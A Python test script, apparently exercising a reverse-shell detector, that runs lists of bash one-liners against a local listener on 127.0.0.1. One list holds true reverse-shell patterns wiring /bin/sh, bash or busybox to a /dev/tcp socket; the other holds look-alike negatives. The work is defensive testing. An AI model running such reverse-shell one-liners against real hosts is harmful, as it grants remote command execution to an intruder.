#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""A shell with a connection as its input alone, or as its output behind a pipe; and what looks alike: other programs between
such descriptors, shells with a script or commands of their own, and a shell whose output alone goes there, from a file."""
import socket
import subprocess

WAYS = (
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | /bin/sh >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh <&5 | cat >&5; exit 0",
    "/bin/sh </dev/tcp/127.0.0.1/{}; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | setsid -w busybox sh >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | /bin/sh /dev/stdin >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | bash --rcfile /etc/profile -i >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | bash -s /etc/hosts x.sh >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | bash -s x.sh -x >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; sh -i /srv/x.sh -x <&5; exit 0",
)
ALIKE = (
    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | grep -v nothing >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh -c 'read line' <&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; busybox sh -ec 'read line' <&5; exit 0",
    "echo : >own.sh; exec 5<>/dev/tcp/127.0.0.1/{}; bash -e $PWD/own.sh -i eth0 <&5; exit 0",
    "echo : >own.sh; exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh own.sh -s -x <&5; exit 0",
    "echo : >own.sh; exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh own.sh <&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; echo : | /bin/sh | cat >&5; exit 0",
    "exec 5<>/dev/tcp/127.0.0.1/{}; echo : >own; /bin/sh <own >&5; exit 0",
)

for way in WAYS + ALIKE:
    listening = socket.create_server(("127.0.0.1", 0))
    process = subprocess.Popen(["/bin/bash", "-c", way.format(listening.getsockname()[1])])
    there = listening.accept()[0]
    there.sendall(b":\nexit 0\n")
    there.shutdown(socket.SHUT_WR)
    process.wait()
    there.close()
